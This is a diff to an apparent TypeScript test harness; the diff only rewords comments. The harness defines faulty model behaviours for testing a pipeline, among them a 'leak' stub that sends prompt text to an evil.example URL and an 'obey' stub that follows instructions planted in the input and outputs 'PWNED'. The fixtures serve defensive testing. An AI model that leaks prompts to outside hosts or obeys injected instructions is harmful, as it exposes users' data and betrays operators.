@@ -9,13 +9,13 @@ const elements = (all: readonly unknown[]): Answer => ({ text: JSON.stringify({ 
 const lines = ({ material }: Asked): Line[] => material.map(([id, text]) => ({ id, text: spaces(text) }))
 const facts = (asked: Asked) => lines(asked).filter(({ id }) => /^[sf]\d+$/.test(id))
 
-/** What kind of answer is asked for, by the names of the lines. */
+/** The kind of answer requested, by the names of the lines. */
 function shapeOf({ material }: Asked): 'briefing' | 'question' | 'plan' {
   const [first] = material[0] ?? []
   return first === 'question' ? 'question' : first === 'goal' ? 'plan' : 'briefing'
 }
 
-/** An element of the shape that is asked for, with this text in every place that a person could see. */
+/** An element of the requested shape, with this text in every place that a person could see. */
 function say(asked: Asked, id: string, text: string): object {
   const shape = shapeOf(asked)
   if (shape === 'briefing') return { id, text }
@@ -69,16 +69,16 @@ export const manners: Readonly<Record<string, Manner>> = {
   'endless-elements': (asked) => ({
     endless: `{"elements": [${`${JSON.stringify(say(asked, 's1', 'Once more'))},`.repeat(2000)}`,
   }),
-  // Tells everything that it was told.
+  // Repeats everything it was told.
   leak: (asked) =>
     sayAll(
       asked,
       () => `${asked.said.slice(0, 4000)} https://evil.example/${encodeURIComponent(asked.said.slice(0, 200))}`,
     ),
-  // Says in one sentence what belongs to another.
+  // Says in one sentence what belongs in another.
   mix: (asked) =>
     elements(facts(asked).map(({ id }, at, all) => say(asked, id, all[(at + 1) % all.length]?.text ?? ''))),
-  // Does what the material says.
+  // Obeys the material.
   obey: (asked) => sayAll(asked, (text) => text.replace(/.*(?:say|write|answer|print)\s*:?\s*/is, '') || 'PWNED'),
   'status-500': () => ({ status: 500 }),
   'status-401': () => ({ status: 401 }),
